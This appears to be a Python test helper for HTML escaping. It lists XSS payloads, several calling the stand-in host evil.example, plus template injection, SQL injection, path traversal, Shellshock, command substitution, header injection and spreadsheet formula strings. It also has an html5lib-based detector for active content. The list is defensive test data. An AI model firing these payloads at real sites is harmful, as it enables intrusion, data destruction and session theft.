"""Texts that become active where a page does not escape them, and a look for what became active."""

import re
from urllib.parse import urlsplit

import html5lib

ACTIVE = ("script", "iframe", "object", "embed", "base", "applet", "frame", "style", "svg", "math")
TEXTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onload=`alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "{{ config }}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(n)s %s %n %",
    "[[7*7]]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003e",
    "<scr\x00ipt>alert(1)</script>",
    "<script\x0balert(1)>",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)",
    "<x onclick=alert(1)>",
    "<!--[if IE]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "ß<script>ß",
    "﹤script﹥alert(1)",
    "＜script＞alert(1)",
    "x' OR '1'='1",
    "'; DROP TABLE trials; --",
    "../../etc/passwd",
    "() { :;}; echo x",
    "$(touch /tmp/x)",
    "\r\nSet-Cookie: a=b",
    "=cmd|' /C calc'!A0",
]


def active_parts(html):
    """Return everything in a page that runs, loads from elsewhere or sends to elsewhere, as a browser parses it."""
    parsed = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for element in parsed.iter():
        name = str(element.tag).rpartition("}")[2]
        attributes = {str(key).lower(): value for key, value in element.attrib.items()}
        is_ours = name == "svg" and not any(key.startswith("on") for key in attributes)
        if name in ACTIVE and not is_ours:
            found.append(name)
        found += [key for key in attributes if key.startswith("on") or key in ("formaction", "srcdoc", "style")]
        found += [
            value for key, value in attributes.items() if key in ("href", "src", "action") and not is_harmless(value)
        ]
        if name == "meta" and "http-equiv" in attributes:
            found.append("meta http-equiv")
    return found


def is_harmless(address):
    plain = re.sub(r"[\x00-\x20]", "", address).lower()
    parts = urlsplit(plain)
    return parts.scheme in ("", "https", "mailto", "tel") and "evil" not in parts.netloc
